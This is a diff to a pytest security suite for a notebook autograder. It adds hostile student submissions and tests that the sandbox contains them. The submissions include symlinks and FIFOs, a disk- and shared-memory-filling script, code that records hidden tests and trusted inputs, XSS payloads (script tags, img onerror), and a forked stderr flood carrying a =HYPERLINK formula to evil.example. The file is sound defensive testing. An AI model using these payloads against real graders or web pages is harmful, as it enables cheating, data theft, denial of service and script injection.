@@ -10,13 +10,16 @@ Run: ``pytest grader/tests/test_hostile.py`` (about a minute on 2 cores).
 from __future__ import annotations
 
 import copy
+import csv
+import os
+import shutil
 import time
 from pathlib import Path
 
 import nbformat
 import psutil
 import pytest
-from toy import TOY, make_kit, toy_notebook, with_solution
+from toy import FIXTURES, TOY, make_kit, toy_notebook, with_solution
 
 from grader import ipynb
 from grader.autograde import autograde
@@ -51,7 +54,8 @@ attempt("read the worker's gradebook", lambda: open(work + "/course/gradebook.db
 attempt("read the sandbox plan", lambda: open(work + "/plan.json").read())
 attempt("read the trusted cases", lambda: open(@TRUSTED_SPEC@).read())
 attempt("read the expected outputs", lambda: open(@EXPECTED@).read())
-attempt("write the trusted inputs", lambda: open(work + "/trusted/inputs.json", "a").write(" "))
+attempt("write the trusted inputs",
+        lambda: open(glob.glob("/tmp/lmkit-ipc-*/trusted/inputs.json")[0], "a").write(" "))
 attempt("list the grader's folder", lambda: os.listdir(work))
 attempt("write the course gradebook", lambda: open(@GRADEBOOK@, "ab").write(b"0"))
 attempt("write the worker's gradebook", lambda: open(work + "/course/gradebook.db", "ab").write(b"0"))
@@ -120,7 +124,8 @@ runner.run_case = lambda *args: {"raised": "ValueError"}
 FORGED = '''\
 import json, os, pickle
 import numpy as np
-out = os.path.join(os.path.dirname(os.environ["HOME"]), "trusted", "out")
+import glob
+out = glob.glob("/tmp/lmkit-ipc-*/trusted/out")[0]  # the runner's folder, as the runner sees it
 for gid in ("test_add", "test_mul"):
     np.save(open(os.path.join(out, gid + ".npy"), "wb"), np.array([object()], dtype=object), allow_pickle=True)
     with open(os.path.join(out, gid + ".npz"), "wb") as f:
@@ -129,6 +134,64 @@ for gid in ("test_add", "test_mul"):
         json.dump({"records": [{"value": {"array": "a0"}}] * 3}, f)
 get_ipython().input_transformers_cleanup.append(
     lambda lines: [] if lines and lines[0].startswith("# lmkit trusted compare") else lines)
+'''
+
+
+# Fill every writable place: the private tmpfs (/tmp, /var/tmp, /dev/shm, home) in size and
+# in files, SysV shared memory (outside RLIMIT_DATA), the runner's folder; leave it all there.
+FILL = '''\
+import glob, os
+def fill(folder, what):
+    try:
+        with open(os.path.join(folder, "@TOKEN@-big"), "wb") as f:
+            while True:
+                f.write(b"x" * (1 << 20))
+    except OSError as err:
+        print(f"{what} full: {type(err).__name__}")
+    try:
+        for i in range(100_000):
+            open(os.path.join(folder, f"@TOKEN@-{i}"), "w").close()
+    except OSError as err:
+        print(f"{what} files: {type(err).__name__} after {i}")
+for folder in ("/tmp", "/var/tmp", "/dev/shm", os.environ["HOME"]):
+    fill(folder, folder)
+sockets = glob.glob("/tmp/lmkit-ipc-*")[0]
+fill(sockets, "sockets")
+for path in glob.glob(sockets + "/@TOKEN@-*"):  # room again for the runner's outputs
+    os.remove(path)
+import ctypes
+libc = ctypes.CDLL(None)
+shmid = libc.shmget(0, 64 << 20, 0o1000 | 0o666)  # IPC_PRIVATE, IPC_CREAT
+print("shm", "made" if shmid >= 0 else "refused")
+'''
+
+# Leave the trusted compare's values alone; read what nbgrader runs and the trusted inputs and
+# print them (into the feedback, if the grader showed outputs); HTML that runs scripts.
+RECORDER = '''\
+import glob
+def _record(info):
+    print("RECORDED:", info.raw_cell)
+get_ipython().events.register("pre_run_cell", _record)
+for path in glob.glob("/tmp/lmkit-ipc-*/trusted/inputs.json"):
+    print("INPUTS:", open(path).read())
+from IPython.display import HTML, display
+display(HTML('<img src=x onerror="alert(1)"><script>alert(2)</script>'))
+'''
+SCRIPT_MARKDOWN = '<script>alert("md")</script>\n\n<a href="#" onclick="alert(3)">x</a>'
+
+# Its stderr looks like an exception whose message is a spreadsheet formula, written by a
+# child that goes on after the kernel died (the last "exception" of nbgrader's log).
+FORMULA = '''\
+import os, sys, time
+LINE = 'ValueError: =HYPERLINK("http://evil.example/"&A1,"click")\\n'
+if os.fork() == 0:
+    os.setsid()
+    for _ in range(600):
+        os.write(2, LINE.encode())
+        time.sleep(0.05)
+    os._exit(0)
+os.write(2, LINE.encode())
+os._exit(1)
 '''
 
 
@@ -208,15 +271,62 @@ def submissions(kit, folder: Path) -> None:
     put("object_array", with_solution(solution, "add",
                                       "import numpy as np\nreturn np.array([a + b], dtype=object)"))
 
+    # issue 20, class 1: links and special files in the submissions folder
+    (folder / "link_solution").mkdir()
+    (folder / "link_solution" / f"{TOY}.ipynb").symlink_to(kit.solution(TOY))
+    (folder / "link_classmate.ipynb").symlink_to(folder / "reordered" / f"{TOY}.ipynb")
+    (folder / "link_folder").symlink_to(folder / "changed_cell_ids")
+    (folder / "fifo").mkdir()
+    os.mkfifo(folder / "fifo" / f"{TOY}.ipynb")  # a read would never return
+    put("fifo_timestamp", solution)
+    os.mkfifo(folder / "fifo_timestamp" / "timestamp.txt")
+    big = add_cell(solution, "x = 1")
+    big.cells.append(nbformat.v4.new_markdown_cell("*a* " * (1 << 20)))  # 4 MB of markdown
+    put("too_big", big)
+    # class 3: fills every place it can write; class 4: an answer module and another checkout
+    put("fills_disk", add_cell(solution, FILL.replace("@TOKEN@", TOKEN)))
+    put("imports_answer", with_solution(solution, "add", ANSWER_IMPORT))
+    put("other_checkout", add_cell(solution, OTHER_CHECKOUT))
+    # class 6: feedback as a channel out; a formula in the reason
+    recorder = add_cell(solution, RECORDER, cell_index(solution, "add"))
+    recorder.cells.insert(1, nbformat.v4.new_markdown_cell(SCRIPT_MARKDOWN))
+    put("recorder", recorder)
+    put("formula", add_cell(solution, FORMULA))
+
+
+ANSWER_IMPORT = "from helpers.toy_reference import add as _add\nreturn _add(a, b)"
+OTHER_CHECKOUT = '''\
+import glob
+found = glob.glob("/tmp/**/99_toy.ipynb", recursive=True) + glob.glob("/work/**/99_toy.ipynb")
+print("other checkouts:", [p for p in found if "solutions" in p] or "none")
+'''
+
+
+def another_checkout(root: Path) -> Path:
+    """A world-readable copy of the toy's solution outside the kit (as another clone)."""
+    other = root / "another-clone" / "solutions"
+    other.mkdir(parents=True)
+    shutil.copy(FIXTURES / f"{TOY}.ipynb", other)
+    for folder in (root, other.parent, other):
+        folder.chmod(0o755)
+    return other
+
 
 @pytest.fixture(scope="module")
 def graded(tmp_path_factory):
     kit = make_kit(tmp_path_factory.mktemp("hostile") / "kit")
+    helpers = kit.root / "helpers"  # a module that answers the toy lesson (grader.release)
+    helpers.mkdir()
+    (helpers / "__init__.py").write_text("")
+    (helpers / "toy_reference.py").write_text(
+        'ANSWERS = ("99_toy",)\n\n\ndef add(a, b):\n    return a + b\n')
+    another_checkout(kit.root.parent)
     folder = kit.root / "submissions"
     submissions(kit, folder)
-    settings = Settings(cell_timeout=5, notebook_timeout=90,
+    settings = Settings(cell_timeout=5, notebook_timeout=90, max_notebook_bytes=2 << 20,
                         limits=Limits(cpu_seconds=60, memory_bytes=1 * GiB, processes=64,
-                                      file_bytes=64 << 20))
+                                      file_bytes=64 << 20, disk_bytes=32 << 20,
+                                      disk_files=1000))
     start = time.monotonic()
     results = autograde(TOY, folder, layout=kit, settings=settings, workers=2)
     return kit, {r.student: r for r in results}, time.monotonic() - start
@@ -351,7 +461,7 @@ def test_every_submission_has_one_result(graded):
     kit, results, seconds = graded
     assert set(results) == {p.name.removesuffix(".ipynb") for p in
                             (kit.root / "submissions").iterdir()}
-    assert seconds < 240
+    assert seconds < 300
 
 
 @pytest.mark.parametrize("student, mul, why", [
@@ -394,3 +504,79 @@ def test_forged_outputs_with_pickles_fail_cleanly(graded):
 def test_reasons_reveal_no_hidden_inputs_or_values(graded):
     reasons = " ".join(why for r in graded[1].values() for why in r.checks.values())
     assert reasons and not any(secret in reasons for secret in ("40", "42", "-1", "0.25", "0.75"))
+
+
+# --- issue 20: what an attack on the grader found ------------------------------------------
+
+
+@pytest.mark.parametrize("student, reason", [
+    ("link_solution", f"{TOY}.ipynb is a symbolic link: hand in the notebook itself"),
+    ("link_classmate", "link_classmate.ipynb is a symbolic link or a special file"),
+    ("link_folder", "link_folder is a symbolic link or a special file"),
+    ("fifo", f"{TOY}.ipynb is not a regular file"),
+    ("too_big", f"{TOY}.ipynb is larger than 2 MB"),
+])
+def test_links_special_files_and_huge_files_are_not_read(graded, student, reason):
+    """Class 1: never followed, never blocked on; no copy of anyone else's work is graded."""
+    result = graded[1][student]
+    assert (result.score, result.status) == (0, "invalid") and result.reason.startswith(reason)
+    html = result.feedback.read_text()
+    assert "return a + b" not in html and "_hidden" not in html  # the solution's text
+
+
+def test_a_fifo_timestamp_neither_hangs_nor_counts(graded):
+    """Class 1 and 2: the student's timestamp.txt is not read at all by default."""
+    result = graded[1]["fifo_timestamp"]
+    assert (result.score, result.status, result.timestamp) == (3, "graded", None)
+
+
+@needs_root
+def test_disk_space_is_private_capped_and_gone_afterwards(graded):
+    """Class 3: /tmp, /var/tmp, /dev/shm and home share one capped tmpfs of the kernel's
+    own; the runner's folder is capped too; nothing of it outlives the submission."""
+    kit, results, _ = graded
+    text = outputs(kit, "fills_disk")
+    for what in ("/tmp", "/var/tmp", "/dev/shm", "sockets"):
+        assert f"{what} full: OSError" in text and f"{what} files: OSError" in text, text
+    # full scratch space costs its own runner cells at most (checks fail closed), never the
+    # grader or the students graded after it (their exact scores: the tests above)
+    assert results["fills_disk"].status == "graded" and not results["fills_disk"].grader_fault
+    left = [p for folder in ("/tmp", "/var/tmp", "/dev/shm")
+            for p in Path(folder).glob(f"{TOKEN}-*")]
+    assert left == []
+    segments = Path("/proc/sysvipc/shm").read_text().splitlines()[1:]
+    assert not [line for line in segments if int(line.split()[7]) >= 61000]  # uid column
+
+
+@needs_root
+def test_answers_elsewhere_are_out_of_reach(graded):
+    """Class 4: the kernel sees an allow-list (no other checkout), and the modules that
+    answer this lesson are empty in the sandbox."""
+    kit, results, _ = graded
+    assert "other checkouts: none" in outputs(kit, "other_checkout")
+    assert results["imports_answer"].tests == {"test_add": 0.0, "test_mul": 2.0}
+    assert (kit.root / "helpers" / "toy_reference.py").stat().st_size > 0  # untouched
+
+
+def test_feedback_shows_no_recorded_tests_inputs_or_scripts(graded):
+    """Class 6: the kernel's outputs are not in the feedback (only the grader's verdict
+    lines); hidden tests, trusted inputs and scripts never reach the page."""
+    kit, results, _ = graded
+    assert results["recorder"].tests == {"test_add": 1.0, "test_mul": 2.0}
+    autograded = Course(kit.course, kit.root).autograded("recorder", TOY).read_text()
+    assert "RECORDED: " in autograded and "INPUTS: {" in autograded  # it did record them
+    html = results["recorder"].feedback.read_text()
+    for secret in ("RECORDED: ", "_hidden_add_cases", "INPUTS: {", "<script>alert",
+                   "<img src=x onerror", "onclick="):  # its source is shown, escaped
+        assert secret not in html, secret
+    assert "add(1, 2) should be 3" in html  # the visible test, as the student got it
+
+
+def test_reasons_are_the_graders_words_and_csv_cells_are_not_formulas(graded):
+    """Class 6: a kernel's stderr never reaches a reason; text cells cannot start a formula."""
+    kit, results, _ = graded
+    assert results["formula"].reason == "nbgrader autograde failed: DeadKernelError: Kernel died"
+    with open(kit.course / "grades.csv", newline="") as f:
+        cells = [value for row in csv.DictReader(f) for value in row.values()]
+    assert not [c for c in cells if c and (c[0] in "=+@" or (c[0] == "-" and not c[1:2].isdigit()))]
+    assert not any("HYPERLINK" in c for c in cells)
